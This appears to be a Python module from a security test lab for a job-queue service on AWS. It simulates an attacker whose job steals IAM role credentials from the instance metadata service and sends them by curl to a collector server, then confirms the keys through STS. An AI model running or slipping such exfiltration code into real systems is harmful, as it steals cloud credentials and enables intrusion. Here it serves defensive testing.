"""Credentials of instances as an attacker gets them: sent out by code that runs there."""

from __future__ import annotations

import json
from collections.abc import Mapping
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from attacks import hosts
from attacks.asking import Caller
from attacks.collector import Collector
from attacks.things import Table
from attacks.ways import SESSION
from mayfly.records.model import Instance
from mayfly_lab.contracts import Keys
from mayfly_lab.lab import STACK
from stories.stage import Stage
from whole.steps import HOLD

TAKEN, VICTIM = "taken", "victim"
"""The queue whose hosts send their credentials out, and the queue of another owner."""
QUEUES: Mapping[str, Mapping[str, str]] = {TAKEN: {"imds": "job"}, VICTIM: {"pool/hot": "1"}}
BOOTSTRAP, SANDBOX = "bootstrap", "sandbox"
ROLES = (BOOTSTRAP, SANDBOX)
_LIFE = timedelta(hours=6)


def sends(path: str, collector: str = "$COLLECTOR") -> str:
    """Bash that sends the credentials which the metadata service serves to the attacker's server.

    `$COLLECTOR` in a queue's bootstrap script is replaced by the server's URL.
    """
    return f"""
{SESSION}
get() {{ curl -fsS -H "X-aws-ec2-metadata-token: $token" $imds/meta-data/$1; }}
role=$(get iam/security-credentials/)
{{ get instance-id; echo; get iam/security-credentials/$role; }} |
  curl -fsS --data-binary @- {collector}/{path}
"""


SCRIPT = f"#!/bin/bash\nset -eu\n{sends(BOOTSTRAP)}"
"""The bootstrap script of the queue `taken`."""


def taken(collector: Collector, path: str) -> dict[str, Keys]:
    """The credentials that were sent to this path, by instance id; the latest of each."""
    found = {}
    for sent in collector.sent(f"/{path}"):
        instance, _, body = sent.body.partition("\n")
        keys = json.loads(body)
        expires = datetime.now(UTC) + _LIFE
        found[instance] = Keys(keys["AccessKeyId"], keys["SecretAccessKey"], keys["Token"], expires)
    return found


@dataclass(frozen=True, slots=True)
class Taken:
    """An instance whose job runs, with the credentials of both roles that its code sent out."""

    stage: Stage
    instance: str
    job: str
    callers: Mapping[str, Caller]
    """By role: who makes calls with the role's credentials, from outside."""

    @property
    def record(self) -> Instance:
        """Mayfly's record of the instance."""
        return self.stage.instance(self.instance)

    def row(self, role: str) -> Table:
        """The Mailbox with the row of the instance in a role."""
        record = self.record
        row = record.bootstrap_row if role == BOOTSTRAP else record.sandbox_row
        return Table(f"{STACK}-mailbox", "key", row or "")

    def let_go(self) -> None:
        """Let the job end, unless the instance is gone."""
        if self.record.open:
            hosts.let_go(self.stage, self.instance)


def push(stage: Stage, collector: Collector) -> str:
    """Push a job that sends its host's credentials out, and waits. Returns the job's id."""
    return stage.push(TAKEN, f"{sends(SANDBOX, collector.url)}\n{HOLD}")


def take(stage: Stage, collector: Collector, job: str) -> Taken:
    """Wait until the credentials of the job's host are out; STS must name host and role."""
    instance = stage.running(job)

    def out(role: str) -> Caller:
        keys = stage.until(
            f"credentials of {role} are out", lambda: taken(collector, role).get(instance)
        )
        caller = Caller(stage.lab.aws.endpoint, keys)
        named = caller.client("sts").get_caller_identity()["Arn"]
        assert named.endswith(f":assumed-role/{role_of(stage, TAKEN, role)}/{instance}")
        return caller

    callers = {role: out(role) for role in ROLES}
    return Taken(stage, instance, job, callers)


def role_of(stage: Stage, queue: str, role: str) -> str:
    """The name of a role of a queue."""
    return str(stage.published(queue)[f"{role}_role"]).rpartition("/")[2]
